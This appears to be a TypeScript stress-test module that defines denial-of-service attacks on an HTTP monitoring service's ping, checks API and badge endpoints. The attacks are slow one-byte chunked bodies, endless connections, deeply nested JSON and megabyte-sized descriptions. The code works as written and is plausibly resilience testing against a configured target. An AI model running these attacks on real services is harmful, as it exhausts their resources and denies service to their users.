import type { Attack, Target } from './attack.ts';
import { open, push, readAll, send } from './sockets.ts';

const CRUMBS = Buffer.from('1\r\nx\r\n'.repeat(10_000));

/** A body in chunks of one byte each, in connections that never end it. */
async function sendCrumbs(target: Target, path: string, bytesEach: number): Promise<void> {
  await Promise.all(
    Array.from({ length: 4 }, async () => {
      const socket = await open(target.httpPort);
      await send(socket, `POST ${path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n`);
      for (let sent = 0; sent < bytesEach; sent += 10_000) {
        if (!(await send(socket, CRUMBS))) return;
      }
    }),
  );
}

async function post(port: number, path: string, headers: string, body: string): Promise<void> {
  const socket = await open(port);
  const answer = readAll(socket);
  const head = `POST ${path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n${headers}Content-Length: ${body.length}\r\n\r\n`;
  await send(socket, head);
  await send(socket, body);
  await answer;
}

export const BODY_ATTACKS: readonly Attack[] = [
  {
    name: 'bodies to the API in chunks of one byte, without a key',
    amount: { short: 300_000, full: 2_400_000 },
    run: (target, bytesEach) => sendCrumbs(target, '/api/v3/checks/', bytesEach),
  },
  {
    name: 'bodies of pings in chunks of one byte',
    amount: { short: 300_000, full: 2_400_000 },
    env: { PING_BODY_LIMIT: 'None' },
    run: (target, bytesEach) => sendCrumbs(target, `/ping/${target.check}`, bytesEach),
  },
  {
    name: 'unlimited bodies of pings on many connections that never end',
    amount: { short: 20, full: 200 },
    env: { PING_BODY_LIMIT: 'None' },
    async run({ httpPort, check }, connections) {
      const piece = Buffer.alloc(1024 * 1024, 'x');
      await Promise.all(
        Array.from({ length: connections }, async () => {
          const socket = await open(httpPort);
          await send(
            socket,
            `POST /ping/${check} HTTP/1.1\r\nHost: a\r\nContent-Length: ${10 * piece.length}\r\n\r\n`,
          );
          for (let sent = 0; sent < 9; sent++) if (!(await send(socket, piece))) return;
        }),
      );
    },
  },
  {
    name: 'deeply nested JSON, without a key and with one',
    amount: { short: 8, full: 80 },
    async run({ httpPort, key }, requests) {
      const body = '['.repeat(2_500_000);
      for (let sent = 0; sent < requests; sent++) {
        await post(httpPort, '/api/v3/checks/', '', body);
        await post(httpPort, '/api/v3/checks/', `X-Api-Key: ${key}\r\n`, body);
      }
    },
  },
  {
    name: 'descriptions of megabytes, with a key, and badges of the checks that have them',
    amount: { short: 20, full: 190 },
    async run({ httpPort, key }, checks) {
      const body = JSON.stringify({ tags: 'huge', desc: 'x'.repeat(2_600_000) });
      for (let made = 0; made < checks; made++) {
        await post(httpPort, '/api/v3/checks/', `X-Api-Key: ${key}\r\n`, body);
      }
      const list = await open(httpPort);
      push(list, `GET /api/v3/badges/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\nX-Api-Key: ${key}\r\n\r\n`);
      const [badge] = /\/badge\/[^"]*\/huge\.svg/.exec((await readAll(list)).replaceAll('\\/', '/')) ?? ['/'];
      for (let shown = 0; shown < 20; shown++) {
        const socket = await open(httpPort);
        push(socket, `GET ${badge} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
        await readAll(socket);
      }
    },
  },
];
